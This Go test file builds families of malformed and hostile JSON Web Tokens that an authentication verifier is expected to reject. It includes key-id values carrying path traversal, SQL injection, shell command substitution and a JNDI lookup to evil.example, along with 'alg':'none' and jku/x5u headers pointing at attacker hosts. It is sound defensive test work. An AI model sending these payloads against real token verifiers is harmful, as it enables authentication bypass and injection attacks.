package auth_test

import (
	"fmt"
	"strings"

	"heed/auth"
)

// formAttacks are tokens that are not a strict compact JWS.
func (w *env) formAttacks() []family {
	good := w.token(nil, nil)
	part := strings.Split(good, ".")
	header, claims, signature := part[0], part[1], part[2]
	headerText, claimsText := w.header().text(w.t), w.claims().text(w.t)
	signed := func(payload string) string { return compact(w.t, headerText, payload, w.officer) }
	headed := func(header string) string { return compact(w.t, header, claimsText, w.officer) }
	before := func(text, addition string) string { return "{" + addition + "," + text[1:] }
	after := func(text, addition string) string { return text[:len(text)-1] + "," + addition + "}" }

	return []family{
		{"not a token at all", auth.ReasonMalformed, []string{
			"", "null", "undefined", ".", "..", "...", "Bearer " + good, "\x00", "🔑", "[object Object]",
		}},
		{"too few or too many parts", auth.ReasonMalformed, []string{
			header, header + "." + claims, header + "." + claims + ".", good + ".", "." + good,
			good + "." + signature, good + "..", header + ".." + signature, "." + claims + "." + signature,
		}},
		{"the JSON forms of a signature", auth.ReasonMalformed, []string{
			fmt.Sprintf(`{"protected":%q,"payload":%q,"signature":%q}`, header, claims, signature),
			fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, claims, header, signature),
			fmt.Sprintf(`{"protected":%q,"payload":%q,"signature":%q,"header":{"kid":"x"}}`, header, claims, signature),
			`{}`,
		}},
		{"whitespace in and around the token", auth.ReasonMalformed, []string{
			" " + good, good + " ", good + "\n", "\t" + good, header + " ." + claims + "." + signature,
			header + ".\n" + claims + "." + signature, header + "." + claims + "." + signature[:20] + "\r\n" + signature[20:],
			header[:8] + " " + header[8:] + "." + claims + "." + signature, good + "\u00a0", good + "\v",
		}},
		{"padding, other alphabets and slack bits", auth.ReasonMalformed, []string{
			header + "=." + claims + "." + signature, good + "=", good + "==", good + "%3D",
			header + "." + claims + "." + "+/" + signature[2:], "~" + good[1:],
			good[:len(good)-1] + nextLetter(good[len(good)-1]),
		}},
		{"larger than any real token", auth.ReasonMalformed, []string{
			w.token(nil, object{"pad": strings.Repeat("x", 9<<10)}),
			w.token(object{"pad": strings.Repeat("x", 9<<10)}, nil),
			good + strings.Repeat("A", 8<<10), strings.Repeat("A", 1<<20), strings.Repeat(".", 1<<20),
		}},
		{"JSON nested without end", auth.ReasonMalformed, []string{
			signed(after(claimsText, `"x":`+strings.Repeat("[", 1000)+strings.Repeat("]", 1000))),
			signed(after(claimsText, `"x":`+strings.Repeat(`{"x":`, 200)+"1"+strings.Repeat("}", 200))),
			headed(after(headerText, `"x":`+strings.Repeat("[", 1000)+strings.Repeat("]", 1000))),
			signed(strings.Repeat("[", 2000)),
		}},
		{"text that is not UTF-8", auth.ReasonMalformed, []string{
			signed(strings.Replace(claimsText, "officer", "off\xffcer", 1)),
			signed(after(claimsText, "\"\xc3\x28\":1")),
			headed(after(headerText, "\"x\":\"\xed\xa0\x80\"")),
			signed("\xff\xfe" + claimsText),
		}},
		{"a payload that is not one JSON object", auth.ReasonMalformed, []string{
			signed("null"), signed("1"), signed(`"text"`), signed("[" + claimsText + "]"), signed(claimsText + claimsText),
			signed(claimsText + " x"), signed(claimsText[:len(claimsText)-1]), signed("{}}"), signed("{'iss':1}"), signed("\ufeff" + claimsText),
		}},
		{"a header that is not one JSON object", auth.ReasonMalformed, []string{
			headed("null"), headed("[" + headerText + "]"), headed(headerText + headerText), headed(headerText[1:]), headed("{,}"),
		}},
		{"a claim given twice", auth.ReasonMalformed, []string{
			signed(before(claimsText, `"sub":"chief"`)), signed(after(claimsText, `"sub":"chief"`)),
			signed(after(claimsText, `"exp":9999999999`)), signed(before(claimsText, `"iss":"https://evil.example"`)),
			signed(after(claimsText, `"aud":"heed"`)), signed(after(claimsText, `"\u0073ub":"chief"`)),
			signed(after(claimsText, `"x":{"a":1,"a":2}`)), signed(after(claimsText, `"x":1,"x":1`)),
		}},
		{"a claim in another case", auth.ReasonMalformed, []string{
			signed(after(claimsText, `"EXP":9999999999`)), signed(before(claimsText, `"Exp":1`)),
			signed(after(claimsText, `"SUB":"chief"`)), signed(after(claimsText, `"Iss":"x"`)), signed(after(claimsText, `"AUD":"heed"`)),
			signed(after(claimsText, `"ſub":"chief"`)), signed(after(claimsText, `"iſs":"x"`)), signed(after(claimsText, `"nBf":1`)),
			signed(strings.Replace(claimsText, `"exp"`, `"eXp"`, 1)), signed(after(claimsText, `"Role":1,"role":2`)),
		}},
		{"a header given twice or in another case", auth.ReasonMalformed, []string{
			headed(after(headerText, `"alg":"none"`)), headed(before(headerText, `"alg":"none"`)), headed(after(headerText, `"ALG":"none"`)),
			headed(after(headerText, `"Kid":"x"`)), headed(after(headerText, `"Crit":[]`)), headed(before(headerText, `"typ":"JWT"`)),
			headed(after(headerText, `"K\u0069d":"x"`)), headed(after(headerText, "\"\u212aid\":\"x\"")),
		}},
	}
}

// nextLetter is a letter that decodes to the same bytes, except for bits that a strict
// decoder requires to be zero.
func nextLetter(letter byte) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	return alphabet[strings.IndexByte(alphabet, letter)+1:][:1]
}

// headerAttacks are tokens with a special header; the signature is genuine wherever it can
// be.
func (w *env) headerAttacks() []family {
	own := w.officer.jwk()
	nested := encode(w.token(nil, nil))
	return []family{
		{"critical extensions", auth.ReasonHeader, w.withHeaders(
			object{"crit": []string{}}, object{"crit": []string{"exp"}}, object{"crit": []string{"b64"}, "b64": false},
			object{"crit": []string{"x"}, "x": 1}, object{"crit": null}, object{"crit": "exp"},
		)},
		{"an unencoded payload", auth.ReasonHeader, w.withHeaders(object{"b64": false}, object{"b64": true}, object{"b64": null})},
		{"a key that comes along or an address to fetch one from", auth.ReasonHeader, w.withHeaders(
			object{"jwk": own}, object{"jwk": object{"kty": "oct", "k": "AAAA"}}, object{"jku": "https://evil.example/keys"},
			object{"jku": w.police.URL + "/keys"}, object{"x5u": "https://evil.example/cert"}, object{"x5c": []string{"MIIB"}}, object{"jwk": null},
		)},
		{"compressed or encrypted content", auth.ReasonHeader, w.withHeaders(
			object{"zip": "DEF"}, object{"zip": "none"}, object{"enc": "A256GCM"}, object{"enc": "A128CBC-HS256", "zip": "DEF"},
		)},
		{"a token in a token", auth.ReasonHeader,
			w.withHeaders(object{"cty": "JWT"}, object{"cty": "at+jwt"}, object{"cty": "application/json"})},
		{"a token as payload", auth.ReasonMalformed, []string{
			compact(w.t, w.header().text(w.t), w.token(nil, nil), w.officer),
			compact(w.t, w.header().text(w.t), `"`+w.token(nil, nil)+`"`, w.officer),
			compact(w.t, w.header().text(w.t), nested, w.officer),
		}},
		{"no type, or that of another token", auth.ReasonType, w.withHeaders(
			object{"typ": nil}, object{"typ": "JWT"}, object{"typ": "jwt"}, object{"typ": ""}, object{"typ": null}, object{"typ": 1},
			object{"typ": "id_token"}, object{"typ": "logout+jwt"}, object{"typ": "dpop+jwt"}, object{"typ": "rt+jwt"},
			object{"typ": []string{"at+jwt"}}, object{"typ": "at+jwt "}, object{"typ": "at+\u212awt"}, object{"typ": "at+jwt;"},
			object{"typ": "at+jwt\x00"},
		)},
		{"no key id", auth.ReasonKeyUnknown, w.withHeaders(values("kid", nil, "", null, 1, []string{"police-1"}, object{"kid": "police-1"})...)},
		{"a made-up key id", auth.ReasonKeyUnknown,
			w.withHeaders(values("kid", "police-2", "POLICE-1", "police-1 ", " police-1", "health-1", "police-1\x00", "police-rsa")...)},
		{"a key id that wants to be run", auth.ReasonKeyUnknown, w.withHeaders(values("kid",
			"../../../../dev/null", "/etc/passwd", "police-1' OR '1'='1", "x' UNION SELECT 'key'--", "police-1; DROP TABLE keys",
			"https://evil.example/keys", "$(id)", "`id`", "%00", "..\\..\\windows\\win.ini", "{{7*7}}", "${jndi:ldap://evil.example}",
		)...)},
	}
}
